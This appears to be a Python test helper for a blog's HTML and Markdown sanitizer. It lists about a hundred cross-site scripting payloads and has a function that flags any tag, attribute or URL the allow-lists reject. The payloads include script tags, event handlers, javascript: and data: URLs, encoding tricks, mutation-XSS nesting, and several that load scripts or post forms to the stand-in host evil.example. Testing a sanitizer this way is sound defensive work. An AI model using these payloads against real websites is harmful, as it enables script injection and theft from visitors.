"""What an attacker would write, and how to tell from the HTML that it did not get through."""

import re

from lxml.html import HtmlElement

from blog.rendering.raw_html import BLOCKS, INLINE
from blog.rendering.sanitize import ATTRIBUTES

ELEMENTS = INLINE | BLOCKS
ADDRESS = re.compile(r"https?://[^/\\].*|mailto:.+|media:[\w-]+|#.*|/(?![/\\]).*|/", re.IGNORECASE)

PAYLOADS = [
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img srcset='https://evil.example/x 1x'>",
    "<img src=/x onload=alert(1) style=background:url(javascript:alert(1))>",
    "<IMG LOWSRC=javascript:alert(1) DYNSRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>a</p>",
    "<div style=width:expression(alert(1))>a</div>",
    "<form action=https://evil.example/><input name=a><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='/&#9;/evil.example/'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:/\\evil.example' target=_blank ping=https://evil.example/>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java&#10;script:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](/%09/evil.example/)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/ \"' onmouseover='alert(1)\")",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover="alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![" onerror="alert(1)](/media/a/b.png)',
    '![a](/media/a/b.png "\\"onload=alert(1)")',
    "![<script>alert(1)</script>](https://evil.example/x.png)",
    '![a](https://evil.example/"><script>alert(1)</script>)',
    "# <img src=x onerror=alert(1)>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    '```x" onmouseover="alert(1)\na\n```',
    "`</code><script>alert(1)</script>`",
    "a[^1]\n\n[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>",
    'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: b',
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<x-a href=javascript:alert(1) onclick=alert(1)>x</x-a>",
    "<x-script>alert(1)</x-script>",
    "<x-img src=x onerror=alert(1)>",
    "<b title='</b><script>alert(1)</script>'>x</b>",
    "<a title='<x-b onclick=alert(1)>' href=/x>x</a>",
    '<p id="p1" class="qa h-cite" role="alert" aria-live="assertive" contenteditable accesskey=x>a</p>',
    "<div is=x-y slot=z part=w nonce=1 data-x=alert(1) itemprop=name>a</div>",
    "</div></article><main id=main>a</main>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<a href="java\x00script:alert(1)">x</a>',
]


def faults(page: HtmlElement) -> list[str]:
    """Everything in `page` that our lists do not know."""
    found = []
    for element in page.iterdescendants():
        if element.tag not in ELEMENTS:
            found.append(f"<{element.tag}>")
            continue
        allowed = ATTRIBUTES.get(element.tag, set()) | ATTRIBUTES["*"]
        found += [f"{element.tag} {name}" for name in element.attrib if name not in allowed]
        for name in ("href", "src"):
            value = element.get(name)
            if value is not None and not ADDRESS.fullmatch(value):
                found.append(f"{name}={value}")
        if (source := element.get("src")) and not re.match(r"/(?![/\\])|media:", source):
            found.append(f"src={source}")
        if element.tag == "a" and any(above.tag == "a" for above in element.iterancestors()):
            found.append("a in a")
    return found
